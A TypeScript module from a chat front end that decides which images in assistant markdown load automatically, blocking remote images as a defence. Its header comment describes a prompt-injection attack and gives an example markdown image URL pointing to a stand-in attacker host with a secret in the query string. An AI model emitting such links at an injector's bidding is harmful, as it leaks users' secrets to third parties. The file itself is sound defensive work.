// Images in assistant markdown (security #9, decision 028). The model writes whatever a prompt
// injection tells it to, and `![x](https://attacker/?q=<secret>)` would make the viewer's browser send
// the secret as soon as the reply renders. Only images that stay with us load by themselves: our own
// file URLs, data: and blob:. A remote image becomes a link the user may choose to open.
import { isOwnFileUrl } from "@/shared/urls";
import { isAllowedHref } from "./link-rules";

export type ImageSource =
  { kind: "inline"; src: string } | { kind: "remote"; href: string; host: string } | { kind: "none" };

function ownOriginFile(src: string): boolean {
  try {
    const url = new URL(src, window.location.origin);
    return url.origin === window.location.origin && isOwnFileUrl(url.pathname + url.search);
  } catch {
    return false;
  }
}

export function classifyImageSource(src: string | null | undefined): ImageSource {
  const s = src?.trim();
  if (!s) return { kind: "none" };
  if (
    /^data:image\//i.test(s) ||
    /^blob:/i.test(s) ||
    isOwnFileUrl(s) ||
    (/^https?:\/\//i.test(s) && ownOriginFile(s))
  ) {
    return { kind: "inline", src: s };
  }
  if (isAllowedHref(s)) {
    const url = new URL(s, window.location.origin);
    return { kind: "remote", href: url.href, host: url.host };
  }
  return { kind: "none" };
}
